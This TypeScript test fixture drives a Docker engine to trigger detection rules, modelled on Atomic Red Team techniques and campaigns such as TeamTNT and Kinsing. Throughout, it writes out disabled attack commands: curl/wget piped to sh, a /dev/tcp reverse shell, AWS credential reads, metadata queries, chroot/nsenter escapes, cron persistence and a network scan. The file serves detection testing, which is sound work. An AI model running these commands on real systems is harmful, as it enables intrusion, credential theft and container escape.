/**
 * What a real engine is told so that rules have something to tell: attacks with harmless commands in the place of theirs.
 * The image is bb:1 under other names; `sh -c 'true || …'` runs nothing, while a rule sees its words.
 */
import { join } from "node:path";
import type { Dockerd } from "../support/dockerd.ts";
import { signalTo } from "../support/signal.ts";

export interface Scenario {
  /** The rule that tells of it. */
  readonly rule: string;
  readonly why: string;
  /** Where it is from: a test of Atomic Red Team, a campaign. */
  readonly from?: string;
  /** The type and action of the event that the rule tells of. */
  readonly type?: string;
  readonly action: string;
  /** Does it; names begin with `id`. */
  readonly run: (docker: (...args: string[]) => string, id: string, engine: Dockerd) => unknown;
}

/** Runs a container that stays, with options, under the name `id`. */
const runs =
  (options: readonly string[], image = "bb:1", command: readonly string[] = ["sleep", "600"]): Scenario["run"] =>
  (docker, id) => {
    if (image !== "bb:1") docker("tag", "bb:1", image);
    docker("run", "-d", "--network", "none", "--name", id, ...options, image, ...command);
  };

/** Runs a container and executes a command in it; that it fails makes no difference. */
const executes =
  (command: readonly string[], execOptions: readonly string[] = [], options: readonly string[] = []): Scenario["run"] =>
  (docker, id) => {
    docker("run", "-d", "--network", "none", "--name", id, ...options, "bb:1", "sleep", "600");
    try {
      docker("exec", ...execOptions, id, ...command);
    } catch {
      // Most of what attacks call is not in the image.
    }
  };

const sh = (script: string): string[] => ["sh", "-c", `true || ${script}`];
const starts = (rule: string, why: string, run: Scenario["run"], from?: string): Scenario => ({
  rule,
  why,
  action: "start",
  run,
  ...(from === undefined ? {} : { from }),
});
const execs = (rule: string, why: string, run: Scenario["run"], from?: string): Scenario => ({
  ...starts(rule, why, run, from),
  action: "exec_start",
});
const about = (rule: string, type: string, action: string, why: string, run: Scenario["run"]): Scenario => ({
  rule,
  why,
  type,
  action,
  run,
});

/** Publishes a port, which needs a network. */
const publishes =
  (port: string, ...options: string[]): Scenario["run"] =>
  (docker, id) => {
    docker("network", "create", `${id}-net`);
    docker("run", "-d", "--network", `${id}-net`, "-p", port, "--name", id, ...options, "bb:1", "sleep", "600");
  };

/** The engine's only node of a swarm of its own, which is made where there is none. */
function swarmNode(engine: Dockerd): string {
  const isIn = engine.docker("info", "-f", "{{.Swarm.LocalNodeState}}") === "active";
  return isIn ? engine.docker("node", "ls", "-q") : engine.initSwarm();
}

/**
 * Those that an alert has to come for at once, by where they are from. Of T1613 (`docker ps`, `docker inspect`) engines tell
 * nothing.
 */
export const ATTACKS: readonly Scenario[] = [
  execs(
    "Download and Run",
    "docker exec into a container, with a download in place of cat",
    executes(sh("curl -s http://10.0.0.1/x | sh")),
    "Atomic Red Team T1609",
  ),
  starts(
    "Privileged Container Started",
    "a container is deployed, with all rights",
    runs(["--privileged"]),
    "Atomic Red Team T1610",
  ),
  starts(
    "Container Escape Command",
    "docker run -v /:/mnt alpine chroot /mnt id",
    runs(["-v", "/:/mnt:ro"], "alpine", ["sh", "-c", "true || chroot /mnt id; sleep 600"]),
    "Atomic Red Team T1611",
  ),
  execs(
    "Container Escape Command",
    "nsenter into the host's mounts",
    executes(sh("nsenter --mount=/proc/1/ns/mnt -- /bin/bash")),
    "Atomic Red Team T1611",
  ),
  {
    ...about("Image Built or Tagged on Host", "image", "tag", "an image is made on the host", (docker, id) =>
      docker("tag", "bb:1", `t1612-${id.toLowerCase()}`),
    ),
    from: "Atomic Red Team T1612",
  },
  starts(
    "Known Malicious Image",
    "TeamTNT: its image, privileged, on the host's network",
    runs(["--privileged"], "alpineos/dockerapi"),
    "TeamTNT",
  ),
  execs(
    "Credential File Read in Container",
    "TeamTNT: cloud credentials are taken",
    executes(sh("cat /host/root/.aws/credentials")),
    "TeamTNT",
  ),
  starts(
    "Download and Run",
    "Kinsing: ubuntu fetches d.sh",
    runs([], "ubuntu", ["sh", "-c", "sleep 600 || wget -q -O - 10.0.0.1/d.sh | sh"]),
    "Kinsing",
  ),
  starts(
    "Container Escape Command",
    "Commando Cat: chroot into the host",
    runs(["-v", "/:/hs:ro"], "cmd.cat/chattr", ["sh", "-c", "sleep 600 || chroot /hs sh -c id"]),
    "Commando Cat",
  ),
  starts(
    "Base Image Kept Alive with Host Access",
    "Dero: ubuntu:18.04 starts again for ever, among the host's processes",
    runs(["--restart", "always", "--pid", "host"], "ubuntu:18.04"),
    "Dero worm",
  ),
  execs(
    "Network Scanner",
    "Dero: it scans for further engines",
    executes(sh("masscan 10.0.0.0/8 -p2375")),
    "Dero worm",
  ),
];

/** One of each other rule that a real engine of one machine can make an event for. */
export const SCENARIOS: readonly Scenario[] = [
  starts("Host Root Mounted in Container", "the host's root", runs(["-v", "/:/host:ro"])),
  starts("Privileged Container with Host Path", "privileged, with /etc", runs(["--privileged", "-v", "/etc:/e:ro"])),
  starts(
    "Powerful Container among Host Processes",
    "a debugger among the host's processes",
    runs(["--pid", "host", "--cap-add", "SYS_PTRACE"]),
  ),
  starts(
    "Base Image Kept Alive with Host Access",
    "alpine among the host's processes",
    runs(["--restart", "always", "--pid", "host"], "alpine:3"),
  ),
  starts(
    "Host Disk or Memory Given to Container",
    "all devices by a rule of the control group",
    runs(["--device-cgroup-rule", "a *:* rwm"]),
  ),
  starts("All Capabilities or Kernel Modules Given", "all capabilities", runs(["--cap-add", "ALL"])),
  about(
    "Dangerous Kernel Setting for Container",
    "container",
    "create",
    "core_pattern, past docker's own check",
    async (_docker, id, engine) => {
      const body = { Image: "bb:1", HostConfig: { Sysctls: { "kernel.core_pattern": "|/x" }, NetworkMode: "none" } };
      const answer = await fetch(`http://d/v1.41/containers/create?name=${id}`, {
        unix: engine.socket,
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify(body),
      });
      if (!answer.ok) throw new Error(await answer.text());
    },
  ),
  about(
    "Working Directory in Leaked Descriptor",
    "container",
    "create",
    "docker create -w /proc/self/fd/7",
    (docker, id) => docker("create", "--name", id, "-w", "/proc/self/fd/7", "bb:1"),
  ),
  starts("Privileged Container Started", "docker run --privileged", runs(["--privileged"])),
  starts("Engine Socket Mounted in Container", "the engine's socket", (docker, id, engine) =>
    docker(
      "run",
      "-d",
      "--network",
      "none",
      "--name",
      id,
      "-v",
      `${engine.socket}:/var/run/docker.sock`,
      "bb:1",
      "sleep",
      "600",
    ),
  ),
  starts("Sensitive Host Path Mounted in Container", "/etc", runs(["-v", "/etc:/e:ro"])),
  starts("Sensitive Host Path Mounted in Container", "a volume that leads to /etc", (docker, id) => {
    docker("volume", "create", "-o", "type=none", "-o", "o=bind", "-o", "device=/etc", `${id}-v`);
    docker("run", "-d", "--network", "none", "--name", id, "-v", `${id}-v:/e`, "bb:1", "sleep", "600");
  }),
  about(
    "Sensitive Host Path behind a Volume",
    "volume",
    "create",
    "docker volume create -o device=/etc",
    (docker, id) => docker("volume", "create", "-o", "type=none", "-o", "o=bind", "-o", "device=/etc", id),
  ),
  starts("Container among Host Processes", "the host's processes", runs(["--pid", "host"])),
  starts("Dangerous Capability Added", "SYS_ADMIN", runs(["--cap-add", "SYS_ADMIN"])),
  starts("Seccomp Disabled for Container", "no seccomp", runs(["--security-opt", "seccomp=unconfined"])),
  starts("AppArmor or SELinux Disabled for Container", "no SELinux", runs(["--security-opt", "label=disable"])),
  starts("Kernel Paths Unmasked in Container", "no masks", runs(["--security-opt", "systempaths=unconfined"])),
  starts("Container Joined Another's Namespace", "another one's processes", (docker, id) => {
    docker("run", "-d", "--network", "none", "--name", `${id}-other`, "bb:1", "sleep", "600");
    docker("run", "-d", "--network", "none", "--name", id, "--pid", `container:${id}-other`, "bb:1", "sleep", "600");
  }),
  starts("Host Namespace Shared with Container", "the host's IPC", runs(["--ipc", "host"])),
  starts("Network Capability Added", "NET_ADMIN", runs(["--cap-add", "NET_ADMIN"])),
  starts("Host Group Given to Container", "the group of disks", runs(["--group-add", "6"])),
  starts("Kubernetes Name on Other Container", "a name of the kubelet's", (docker, id) =>
    docker("run", "-d", "--network", "none", "--name", `k8s_POD_${id}`, "bb:1", "sleep", "600"),
  ),
  starts("Attack Tool Image", "kube-hunter", runs([], "aquasec/kube-hunter")),
  starts("Logging Turned Off for Container", "no logs", runs(["--log-driver", "none"])),
  starts(
    "Cryptominer",
    "a pool",
    runs([], "bb:1", ["sh", "-c", "sleep 600 || ./x -o stratum+tcp://pool.example.com:3333"]),
  ),
  execs("Reverse Shell", "bash", executes(sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))),
  execs(
    "Persistence on the Host from a Container",
    "a job of cron",
    executes(sh("echo x > /h/etc/cron.d/x"), [], ["-v", "/etc:/h/etc:ro"]),
  ),
  execs(
    "Cloud Metadata Service Asked",
    "credentials of the machine",
    executes(sh("wget -qO- http://169.254.169.254/latest/")),
  ),
  execs("Encoded Payload", "base64 into a shell", executes(sh("echo aWQ= | base64 -d | sh"))),
  execs("Engine Driven from a Container", "another engine", executes(sh("docker -H tcp://10.0.0.1:2375 ps"))),
  execs("Tunnel or Anonymizer", "Tor", executes(sh("torsocks wget -qO- x.onion"))),
  execs("Privileged Exec", "docker exec --privileged", executes(["id"], ["--privileged"])),
  execs("Interactive Shell in Container", "docker exec -t sh", executes(["sh", "-c", "exit"], ["-t"])),
  execs("Package Installed in Running Container", "apk add", executes(sh("apk add curl"))),
  execs(
    "Exec as Root in Container of Another User",
    "docker exec -u root",
    executes(["true"], ["-u", "root"], ["-u", "1000"]),
  ),
  about("Files Copied into Container", "container", "extract-to-dir", "docker cp in", (docker, id) => {
    docker("create", "--name", id, "bb:1");
    docker("cp", import.meta.path, `${id}:/tmp/x`);
  }),
  about("Files Copied out of Container", "container", "export", "docker export", (docker, id, engine) => {
    docker("create", "--name", id, "bb:1");
    docker("export", "-o", join(engine.folder, "export.tar"), id);
  }),
  about("Container Saved as Image", "container", "commit", "docker commit", (docker, id) => {
    docker("create", "--name", id, "bb:1");
    docker("commit", id, `committed:${id.toLowerCase()}`);
  }),
  about("Image Saved to File", "image", "save", "docker save", (docker, _id, engine) =>
    docker("save", "-o", join(engine.folder, "save.tar"), "bb:1"),
  ),
  about("Out of Memory in Container", "container", "oom", "a limit of 8 MiB", (docker, id) => {
    const grow = "x=a; while :; do x=$x$x; done";
    docker("run", "-d", "--network", "none", "--name", id, "--memory", "8m", "bb:1", "sh", "-c", grow);
    docker("wait", id);
  }),
  about("Container Crashed", "container", "die", "SIGSEGV, as its shell passes it on", (docker, id) => {
    // The kernel keeps such a signal from a container's first process.
    const crash = "sh -c 'kill -SEGV $$'; exit $?";
    docker("run", "-d", "--network", "none", "--name", id, "bb:1", "sh", "-c", crash);
    docker("wait", id);
  }),
  about("Container Unhealthy", "container", "health_status", "a check that fails", (docker, id) => {
    const check = ["--health-cmd", "false", "--health-interval", "1s", "--health-retries", "1"];
    docker("run", "-d", "--network", "none", "--name", id, ...check, "bb:1", "sleep", "600");
    while (!docker("inspect", "-f", "{{.State.Health.Status}}", id).includes("unhealthy")) Bun.sleepSync(100);
  }),
  about("Volume Destroyed", "volume", "destroy", "docker volume rm", (docker, id) => {
    docker("volume", "create", id);
    docker("volume", "rm", id);
  }),
  about("Running Container Changed", "container", "rename", "docker rename", (docker, id) => {
    docker("create", "--name", id, "bb:1");
    docker("rename", id, `${id}-renamed`);
  }),
  about("Container Killed", "container", "kill", "docker kill", (docker, id) => {
    docker("run", "-d", "--network", "none", "--name", id, "bb:1", "sleep", "600");
    docker("kill", id);
  }),
  about("Attached to Container", "container", "attach", "docker run in the foreground", (docker, id) =>
    docker("run", "--network", "none", "--name", id, "bb:1", "true"),
  ),
  about("Security Sensor Stopped", "container", "kill", "Falco's own container is killed", (docker, id) => {
    docker("tag", "bb:1", "falcosecurity/falco:0.42.0");
    docker("run", "-d", "--network", "none", "--name", id, "falcosecurity/falco:0.42.0", "sleep", "600");
    docker("kill", id);
  }),
  about("Event Forged by Label", "container", "die", "a label exitCode", (docker, id) =>
    docker("run", "--network", "none", "--name", id, "--label", "exitCode=0", "bb:1", "sh", "-c", "exit 0"),
  ),
  starts("Remote Administration Port Published", "another engine's port, on all addresses", publishes("2375:2375")),
  about("Swarm Node Changed", "node", "update", "docker node update --availability drain", (docker, _id, engine) =>
    docker("node", "update", "--availability", "drain", swarmNode(engine)),
  ),
  about("Swarm Service Changed", "service", "create", "docker service create", (docker, id, engine) => {
    swarmNode(engine);
    docker("service", "create", "--detach", "--name", id, "bb:1", "sleep", "600");
  }),
  about("Secret or Config Changed", "secret", "create", "docker secret create", (docker, id, engine) => {
    swarmNode(engine);
    docker("secret", "create", id, import.meta.path);
  }),
  about("Secret or Config Changed", "config", "remove", "docker config rm", (docker, id, engine) => {
    swarmNode(engine);
    docker("config", "create", id, import.meta.path);
    docker("config", "rm", id);
  }),
  about("Engine Reconfigured", "daemon", "reload", "SIGHUP", (_docker, _id, engine) => signalTo(engine.pid, "SIGHUP")),
];

/** Has all that the benchmark asks for, but for what is published. */
const benchmarked = [
  ...["--user", "1000", "--memory", "64m", "--cpus", "1", "--pids-limit", "64", "--read-only", "--cap-drop", "ALL"],
  ...["--security-opt", "no-new-privileges", "--health-cmd", "true", "--restart", "on-failure:5"],
];

/** Of the rules of the CIS benchmark, those of published ports. */
export const CIS_SCENARIOS: readonly Scenario[] = [
  starts("CIS 5.8 Privileged Port of the Host", "80 on one address", publishes("127.0.0.1:80:80", ...benchmarked)),
  starts(
    "CIS 5.9 All Exposed Ports Published",
    "docker run -P",
    publishes("127.0.0.1:8080:80", ...benchmarked, "-P", "--expose", "81"),
  ),
  starts("CIS 5.14 Port Open on All Addresses", "8081", publishes("8081:80", ...benchmarked)),
];
